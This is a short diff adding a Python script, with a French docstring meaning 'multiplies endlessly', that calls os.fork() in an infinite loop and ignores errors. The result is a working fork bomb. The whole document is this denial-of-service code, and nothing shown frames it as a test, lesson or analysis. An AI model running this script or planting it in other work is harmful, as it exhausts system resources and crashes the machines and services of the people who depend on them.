@@ -1,0 +1,9 @@
+"""Se multiplie sans fin."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
